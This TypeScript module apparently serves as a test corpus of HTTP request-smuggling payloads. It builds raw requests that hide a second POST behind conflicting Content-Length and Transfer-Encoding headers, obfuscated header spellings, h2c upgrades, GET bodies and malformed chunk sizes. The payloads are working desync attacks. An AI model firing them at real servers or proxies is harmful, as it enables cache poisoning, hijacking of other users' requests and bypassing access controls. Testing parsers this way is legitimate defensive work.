/** Stands in the path of each request that is hidden in another's body. */
export const HIDDEN = "smuggled";

/** @returns the bytes of a connection: by one reading a body holds the hidden request, by another it follows. */
type Form = (path: string) => string;

const hidden = (path: string) =>
  `POST ${path}/${HIDDEN} HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}\r\n`;

const framed = (path: string, headers: string, body: string) =>
  `POST ${path} HTTP/1.1\r\nHost: x\r\n${headers.replaceAll("LENGTH", String(body.length))}\r\n\r\n${body}`;

/** The length covers the hidden request; whoever reads chunks sees an end before it. */
const behindLastChunk =
  (headers: string): Form =>
  (path) =>
    framed(path, headers, `0\r\n\r\n${hidden(path)}`);

/** A chunk holds the hidden request; by the length, it comes after the body. */
const insideChunk =
  (headers: string): Form =>
  (path) => {
    const inner = hidden(path);
    return framed(path, headers, `${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`);
  };

/** One of two lengths covers the hidden request, the other ends before it. */
const twoLengths =
  (headers: string): Form =>
  (path) =>
    framed(path, headers, hidden(path));

/** Chunks that are read in two ways. */
const oddChunks =
  (before: string): Form =>
  (path) => {
    const inner = hidden(path);
    return framed(
      path,
      "Transfer-Encoding: chunked",
      `${before}${(inner.length + 5).toString(16)}\r\n0\r\n\r\n${inner}\r\n0\r\n\r\n`,
    );
  };

export const SMUGGLING: Form[] = [
  // CL.TE, and TE.TE: a coding that only one of two takes for chunked.
  ...[
    "Content-Length: LENGTH\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nContent-Length: LENGTH",
    "Content-Length: LENGTH\r\nTransfer-Encoding: xchunked",
    "Content-Length: LENGTH\r\nTransfer-Encoding : chunked",
    "Content-Length: LENGTH\r\nTransfer-Encoding:\tchunked",
    "Content-Length: LENGTH\r\nTransfer-Encoding: \x0bchunked",
    "Content-Length: LENGTH\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Content-Length: LENGTH\r\nTransfer-Encoding: identity, chunked",
    "Content-Length: LENGTH\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Content-Length: LENGTH\r\nTransfer_Encoding: chunked",
    "Content-Length: LENGTH\r\nTransfer-Encoding: CHUNKED",
    "Content-Length: LENGTH\r\nX: a\r\n Transfer-Encoding: chunked",
    "Content-Length: LENGTH\r\nTransfer-Encoding:\r\n chunked",
    "Content-Length: LENGTH\r\n Transfer-Encoding: chunked",
    "Content-Length: LENGTH\r\nX: a\nTransfer-Encoding: chunked",
    "Content-Length: LENGTH\r\nX: a\rTransfer-Encoding: chunked",
    "Content-Length: LENGTH\r\nX: a\0\r\nTransfer-Encoding: chunked",
    "Content-Length: LENGTH\r\nConnection: close, Content-Length\r\nTransfer-Encoding: chunked",
  ].map(behindLastChunk),
  // TE.CL
  ...[
    "Content-Length: 4\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nContent-Length: 4",
    "Transfer-Encoding: chunked\r\nContent-Length : 4",
    "Transfer-Encoding: chunked\r\nX: a\nContent-Length: 4",
    "Transfer-Encoding: chunked\r\nContent-Length: 0",
  ].map(insideChunk),
  ...[
    "Content-Length: 0\r\nContent-Length: LENGTH",
    "Content-Length: LENGTH\r\nContent-Length: 0",
    "Content-Length: LENGTH, 0",
    "Content-Length: +LENGTH",
    "Content-Length: LENGTH\r\nX: a\r\n\tContent-Length: 0",
    "Content-Length: LENGTH\r\nX: a\nContent-Length: 0",
    "Content-Length: LENGTH\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk",
    "Content-Length: LENGTH\r\nExpect: 100-continue",
  ].map(twoLengths),
  // A GET, whose body some leave unread.
  (path) => framed(path, "Content-Length: LENGTH", hidden(path)).replace("POST", "GET"),
  (path) => framed("/healthz", "Content-Length: LENGTH", hidden(path)).replace("POST", "GET"),
  // Chunk sizes and extensions.
  ...[
    "2;\nxx\r\n",
    '2;a="\r\nxx\r\n',
    "0x2\r\nxx\r\n",
    "+2\r\nxx\r\n",
    "2 \r\nxx\r\n",
    "2\nxx\r\n",
    "2\r\nxx\n",
  ].map(oddChunks),
  oddChunks(`1${"0".repeat(16)}\r\n`),
];
